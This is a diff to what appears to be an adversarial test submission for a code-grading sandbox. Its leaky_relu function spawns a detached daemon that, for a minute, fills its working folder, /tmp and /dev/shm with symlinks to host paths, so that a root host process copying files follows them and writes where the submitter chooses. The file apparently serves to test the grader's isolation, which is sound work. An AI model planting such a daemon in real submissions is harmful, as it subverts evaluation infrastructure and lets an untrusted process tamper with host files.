@@ -1,7 +1,7 @@
 """Class 2: make the host (root) write where the student chooses.
 
-leaky_relu leaves a daemon that, for a minute, replaces everything in /submission, /tmp and
-/dev/shm with links to host paths the student knows (adversarial.json: the checkout, its Python
+leaky_relu leaves a daemon that, for a minute, replaces everything in its working folder
+(/submission under bubblewrap), /tmp and /dev/shm with links to host paths the student knows (adversarial.json: the checkout, its Python
 environment, the output folder): had the host copied the next submission into a folder this
 process can write, it would have followed them. Its own tests then fail honestly (zeros).
 """
@@ -15,13 +15,13 @@ from _honest import relu, sigmoid, softmax, tanh  # noqa: F401
 
 DAEMON = r'''
 import json, os, sys, time
-marker, targets = sys.argv[1], json.loads(sys.argv[2])
+marker, targets, here = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3]
 if os.fork():
     os._exit(0)
 os.setsid()
 end = time.monotonic() + 60
 while time.monotonic() < end:
-    for folder in ("/submission", "/tmp", "/dev/shm"):
+    for folder in (here, "/tmp", "/dev/shm"):
         try:
             names = os.listdir(folder)
         except OSError:
@@ -48,6 +48,6 @@ def leaky_relu(x, alpha=0.1):
                    os.path.join(settings["outdir"], f"{marker}.csv"),
                    os.path.join(settings["checkout"], f"{marker}.py"),
                    os.path.join(settings["submissions"], f"{marker}")]
-        subprocess.Popen([sys.executable, "-c", DAEMON, marker, __import__("json").dumps(targets)],
+        subprocess.Popen([sys.executable, "-c", DAEMON, marker, __import__("json").dumps(targets), os.getcwd()],
                          start_new_session=True).wait()
     return np.zeros_like(x)
